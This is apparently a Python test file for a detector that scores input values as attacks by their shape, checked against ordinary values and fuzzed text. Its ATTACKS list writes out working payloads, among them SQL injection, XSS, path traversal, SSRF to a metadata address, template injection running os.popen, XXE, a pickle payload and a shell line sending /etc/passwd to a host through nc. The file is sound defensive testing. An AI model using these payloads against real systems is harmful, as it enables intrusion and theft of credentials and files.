"""Scoring of values where no sink is visible."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from remit_guard.sinks import score, score_shapes, score_tokens

ATTACKS = [
    ("' union select login, password from accounts --", "!sql-phrase"),
    ("<svg/onload=alert(document.domain)>", "!handler"),
    ("../../../../etc/ssh/sshd_config", "!climb"),
    ("%252e%252e%252f%252e%252e%252fetc%252fgroup", "!coded-twice"),
    ("http://169.254.169.254/latest/meta-data/iam/", "!inside"),
    ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "!template"),
    ("*)(mail=*))(|(mail=*", "!ldap"),
    ('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>', "!xml"),
    ('{"profile": {"__proto__": {"isAdmin": true}}}', "!proto"),
    ("gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjANsc4WUUpQu", "!object"),
    ("en\r\nSet-Cookie: sid=1", "!header"),
    ("; cat /etc/passwd | nc 203.0.113.9 4444", "!shell"),
]
ORDINARY = [
    "", "Ada Lovelace", "Siobhán O'Connor",
    "ada@example.org", "+44 20 7946 0018", "2025-11-10T10:00:00Z", "12 Rue de l'Église, Paris",
    "https://shop.example.com/basket?step=2", "b7e6f0c2-1d3f-4a57-9e55-0d8c3f2b1a90", "Tom & Jerry", "3/4 cup of sugar",
    "Order #4711",
    "Please select a size and drop me a line", "50% off", "SKU-0001", "東京都港区", "I'd like 2 (two) of them; thanks!",
    "C:", "10.50",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
]  # fmt: skip


@pytest.mark.parametrize(("value", "reason"), ATTACKS)
def test_an_attack_is_suspected_for_its_structure(value: str, reason: str) -> None:
    found = score.judge(value)
    assert found is not None
    text, how = score_tokens.decoded(value)
    assert reason in score_shapes.shapes(text, value) | how


@pytest.mark.parametrize("value", ORDINARY)
def test_an_ordinary_value_is_not(value: str) -> None:
    assert score.judge(value) is None


def test_reasons_name_structures_heaviest_first() -> None:
    found = score.judge("<svg/onload=alert(document.domain)>")
    assert found is not None
    assert all(reason.startswith("!") for reason in found.reasons)
    assert "!handler" in " ".join(found.reasons)


@given(st.text(max_size=400))
def test_no_text_makes_it_fail(value: str) -> None:
    score.judge(value)


@given(st.text(alphabet="'\"`()<>{}[]$%&;|/\\.-=*#@!:\r\n aeo01x", max_size=600))
def test_no_punctuation_makes_it_fail(value: str) -> None:
    score.judge(value)


@pytest.mark.parametrize("piece", ["' ", "\r\n", "{{", "${", "(<", "./", "%2e", "&#x", "<!", "a(", "//a@", "$a[{"])
def test_work_on_long_values_is_bounded(piece: str) -> None:
    """What is looked at has a size of its own, however long the value is."""
    short, _ = score_tokens.decoded(piece * 2_000)
    long, _ = score_tokens.decoded(piece * 200_000)
    assert len(long) <= len(short) + len(piece) + 1
    assert len(score_tokens.tokens(long, frozenset())) <= score_tokens.MAX_TOKENS + 2
